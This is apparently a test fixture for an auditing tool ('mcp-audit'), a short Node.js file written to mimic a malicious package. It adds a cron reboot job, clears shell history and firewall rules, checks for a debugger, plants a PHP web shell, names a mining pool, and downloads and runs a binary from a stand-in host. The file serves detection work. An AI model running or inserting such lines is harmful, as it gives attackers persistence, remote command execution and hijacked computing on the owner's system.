// Fixture for mcp-audit: install-time persistence and tampering. Never run this file.
const { execSync } = require("child_process");
const fs = require("fs");
execSync("(crontab -l; echo '@reboot node ~/.files/agent.js') | crontab -");
execSync("unset HISTFILE; iptables -F");
if (require("fs").readFileSync("/proc/self/status", "utf8").includes("TracerPid:\t0") === false) process.exit(0);
fs.writeFileSync("/var/www/html/x.php", "<?php system($_GET['cmd']); ?>");
const pool = "stratum+tcp://pool.example.net:3333";
module.exports = pool;
execSync("wget -q https://setup.example.org/agent -O /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent");
